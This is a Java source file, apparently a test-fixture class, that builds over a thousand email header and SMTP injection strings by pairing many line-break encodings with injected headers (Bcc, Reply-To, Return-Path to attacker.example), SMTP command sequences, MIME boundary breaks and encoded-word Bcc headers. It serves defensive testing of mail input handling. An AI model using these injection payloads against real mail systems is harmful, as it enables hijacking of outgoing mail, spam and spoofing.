package io.clientele.channels;

import java.util.ArrayList;
import java.util.List;

/** Texts that try to become more than a text. */
public final class Hostile {
  private static final List<String> BREAKS =
      List.of(
          "\r\n",
          "\n",
          "\r",
          "\r\n\r\n",
          "\n\n",
          "\r\n ",
          "\r\n\t",
          "\n\r",
          "\u0085",
          "\u2028",
          "\u2029",
          "\u000b",
          "\f",
          "\u0000",
          "%0d%0a",
          "%0a",
          "\\r\\n",
          "=0D=0A",
          "\u560a\u560d",
          "\u010d\u010a",
          "\ud83d\r\n\ude00",
          "?=\r\n",
          ";\r\n");

  private static final List<String> COMMANDS =
      List.of(
          "Bcc: evil@attacker.example",
          "Cc: a@attacker.example, b@attacker.example",
          "To: evil@attacker.example",
          "Subject: other",
          "From: ceo@shop.example",
          "Reply-To: <evil@attacker.example>",
          "Content-Type: text/html; charset=utf-7",
          "Content-Transfer-Encoding: base64",
          "MIME-Version: 9",
          "X-Evil: 1",
          "List-Unsubscribe: <http://attacker.example>",
          "Return-Path: <evil@attacker.example>",
          "DKIM-Signature: v=1",
          ".",
          ".\r\nMAIL FROM:<x@attacker.example>\r\nRCPT TO:<evil@attacker.example>\r\nDATA\r\nhi",
          ".\nQUIT",
          "RCPT TO:<evil@attacker.example>",
          "RSET",
          "--boundary--",
          "----=_Part_0_1.1\r\nContent-Type: text/html\r\n\r\n<b>evil</b>",
          "=?utf-8?B?DQpCY2M6IGV2aWxAYXR0YWNrZXIuZXhhbXBsZQ==?=",
          "=?utf-8?Q?=0D=0ABcc:_evil@attacker.example?=");

  private static final List<String> SHAPES = List.of("hello%s%s", "%s%s");

  private Hostile() {}

  /** Returns more than a thousand texts that try to write headers and SMTP commands. */
  public static List<String> mail() {
    List<String> all = new ArrayList<>();
    for (String shape : SHAPES) {
      for (String lineEnd : BREAKS) {
        for (String command : COMMANDS) {
          all.add(shape.formatted(lineEnd, command));
        }
      }
    }
    return all;
  }
}
